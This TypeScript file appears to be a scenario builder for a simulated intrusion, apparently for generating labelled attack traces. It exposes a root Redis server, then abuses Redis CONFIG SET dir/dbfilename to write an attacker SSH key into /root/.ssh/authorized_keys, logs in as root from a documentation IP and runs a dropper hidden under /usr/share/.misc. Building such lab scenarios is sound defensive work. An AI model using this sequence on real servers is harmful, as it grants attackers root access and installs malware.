// Two steps: the key through Redis, then SSH. The first is the way in.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
  dress.key('own', 'redis@io')
  dress.write('/root/.ssh/known_hosts', '', { mode: 0o600 })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.41'
  const line = dropper(stage, { path: '/usr/share/.misc/zzh' })
  stage.mark('occurrence')
  await redisCommands(stage, from, [
    ['FLUSHALL'],
    ['SET', 'crackit', `\n\n\n${stage.publicKey('own')}\n\n\n`],
    ['CONFIG', 'SET', 'dir', '/root/.ssh'],
    ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
    ['SAVE'],
  ])
  await stage.ssh(from, 'root', { key: 'own' }, line)
}
